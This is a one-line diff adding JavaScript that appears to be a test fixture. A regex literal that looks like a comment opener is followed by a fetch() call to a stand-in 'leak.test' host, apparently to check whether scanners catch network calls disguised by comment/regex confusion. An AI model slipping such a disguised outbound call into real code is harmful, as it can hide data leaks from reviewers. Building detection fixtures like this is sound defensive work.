@@ -1,0 +1,1 @@
+const r = /[/]*"/; fetch("https://js-regex-looks-like-comment.leak.test/"); r
